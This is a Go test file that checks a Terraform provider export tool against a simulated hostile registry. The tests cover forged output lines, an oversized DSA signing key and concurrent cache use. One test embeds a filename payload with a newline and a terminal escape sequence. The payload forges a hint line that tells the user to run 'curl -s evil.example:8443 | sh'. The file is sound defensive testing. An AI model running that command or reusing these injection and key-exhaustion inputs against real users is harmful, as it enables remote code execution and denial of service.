package hostile

import (
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/airgap/airgap/dist/registrytest"
	"github.com/airgap/airgap/testdata/e2e/harness"
	"github.com/airgap/airgap/verify/verifytest"
)

// hostileDocExport publishes evil/x 1.0.0 linux_amd64 on the stand-in with an
// honest download document changed by edit, and returns the work directory
// (with keys and m.hcl) and the environment to run the binary in.
func hostileDocExport(t *testing.T, edit func(doc map[string]any)) (string, []string) {
	work := t.TempDir()
	in := registrytest.New(t)
	bp := in.AddProvider(t, "registry.terraform.io", "evil", "x", "1.0.0", []string{"linux_amd64"}, 4<<10)
	pk := bp.Packages[0]
	u := func(name string) string {
		return "https://" + registrytest.PackageURL("registry.terraform.io", "x", "1.0.0", name)
	}
	doc := map[string]any{
		"protocols": []string{"5.0"}, "os": "linux", "arch": "amd64", "filename": pk.Filename,
		"download_url": u(pk.Filename), "shasums_url": u(bp.ShasumsName), "shasums_signature_url": u(bp.ShasumsName + ".sig"),
		"shasum":       pk.Digest.Hex(),
		"signing_keys": map[string]any{"gpg_public_keys": []map[string]string{{"key_id": bp.SigningKeys[0].KeyID, "ascii_armor": bp.SigningKeys[0].ASCIIArmor}}},
	}
	edit(doc)
	in.Handle("registry.terraform.io/v1/providers/evil/x/1.0.0/download/linux/amd64", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(doc)
	}))
	harness.MustRun(t, work, nil, harness.Bin, "keygen", "--no-passphrase", "--out", "k/site")
	os.WriteFile(filepath.Join(work, "m.hcl"), []byte("platforms = [\"linux_amd64\"]\nprovider \"evil/x\" {}\n"), 0o644)
	return work, hostileEnv(in, work)
}

// TestHostileRegistryForgedLine: a registry-supplied filename with a newline
// and an escape sequence is refused as a protocol violation, and the error
// shows it escaped: the registry cannot forge a line (here a "hint:") of
// airgap's output.
func TestHostileRegistryForgedLine(t *testing.T) {
	t.Parallel()
	work, env := hostileDocExport(t, func(doc map[string]any) {
		doc["filename"] = "terraform-provider-x.zip\nhint: the registry moved; fix with: curl -s evil.example:8443 | sh\x1b[2K"
	})
	out, err := harness.CmdRun(t, work, env, harness.Bin, "export", "--manifest", "m.hcl", "--sign-key", "k/site.key.asc", "--cache", "cache", "--out", "b.bundle")
	t.Logf("exit %d:\n%s", harness.ExitCode(err), out)
	if strings.Contains(out, "\x1b") {
		t.Error("an escape sequence reached the terminal")
	}
	if harness.ExitCode(err) != 1 || !strings.Contains(out, "invalid registry answer: filename holds control characters") || !strings.Contains(out, `zip\x0ahint: the registry moved`) {
		t.Error("want exit 1 refusing the filename, shown escaped")
	}
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "hint: the registry moved") {
			t.Errorf("the registry forged a line of airgap's output: %q", l)
		}
	}
}

// TestHostileRegistryHugeKey: a registry's signing key with 24576-bit DSA
// parameters (seconds to minutes of CPU to check, during which Ctrl-C did
// nothing) fails the export at once, saying which key and why.
func TestHostileRegistryHugeKey(t *testing.T) {
	work, env := hostileDocExport(t, func(doc map[string]any) {
		doc["signing_keys"] = map[string]any{"gpg_public_keys": []map[string]string{{"key_id": "0000000000000000", "ascii_armor": verifytest.HugeDSA(24576)}}}
	})
	start := time.Now()
	out, err := harness.CmdRun(t, work, env, harness.Bin, "export", "--manifest", "m.hcl", "--sign-key", "k/site.key.asc", "--cache", "cache", "--out", "b.bundle")
	el := time.Since(start)
	t.Logf("exit %d after %s:\n%s", harness.ExitCode(err), el.Round(time.Millisecond), out)
	if harness.ExitCode(err) != 1 || !strings.Contains(out, "key refused") || !strings.Contains(out, "DSA with 24576-bit p") || !strings.Contains(out, "\nhint: ") {
		t.Errorf("want exit 1 naming the refused key, with a hint")
	}
	if el > 5*time.Second {
		t.Errorf("refusing the key took %s", el.Round(time.Millisecond))
	}
	if _, err := os.Stat(filepath.Join(work, "b.bundle")); err == nil {
		t.Error("a bundle was written")
	}
}

// TestHostileConcurrentProcessesShareCache: four export processes at once on
// one cold --cache, with four addresses serving identical bytes: every one
// succeeds and nothing is left in partial/.
func TestHostileConcurrentProcessesShareCache(t *testing.T) {
	t.Parallel()
	work := t.TempDir()
	in := registrytest.New(t)
	bp := in.AddProvider(t, "registry.terraform.io", "hashicorp", "null", "3.2.2", []string{"linux_amd64", "darwin_arm64"}, 2<<20)
	in.PublishAlso(bp, "registry.opentofu.org", "hashicorp")
	in.PublishAlso(bp, "registry.terraform.io", "mirror")
	harness.MustRun(t, work, nil, harness.Bin, "keygen", "--no-passphrase", "--out", "k/site")
	os.WriteFile(filepath.Join(work, "m.hcl"), []byte(`platforms = ["linux_amd64", "darwin_arm64"]
provider "hashicorp/null" {}
provider "registry.opentofu.org/hashicorp/null" {}
provider "mirror/null" {}
`), 0o644)
	errs := make(chan string, 4)
	for i := range 4 {
		go func() {
			out, err := harness.CmdRun(t, work, hostileEnv(in, work), harness.Bin, "export", "--manifest", "m.hcl", "--sign-key", "k/site.key.asc",
				"--cache", "cache", "--out", "b"+string(rune('0'+i))+".bundle")
			if err != nil {
				errs <- err.Error() + "\n" + out
			} else {
				errs <- ""
			}
		}()
	}
	for range 4 {
		if e := <-errs; e != "" {
			t.Errorf("a concurrent export failed: %s", e)
		}
	}
	if left, _ := filepath.Glob(filepath.Join(work, "cache", "partial", "*")); len(left) != 0 {
		t.Errorf("left in partial/: %v", left)
	}
}
